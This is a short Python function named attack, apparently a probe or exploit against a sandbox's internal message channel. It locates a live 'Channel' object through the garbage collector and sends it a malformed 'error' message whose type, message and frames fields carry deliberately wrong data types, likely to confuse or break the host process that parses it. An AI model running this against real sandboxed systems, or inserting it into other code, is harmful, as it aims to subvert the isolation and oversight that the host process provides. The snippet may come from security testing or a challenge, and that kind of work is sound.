def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    channel.ask({"op": "error", "stage": 1, "type": [], "message": {}, "frames": [[[]], 3]})
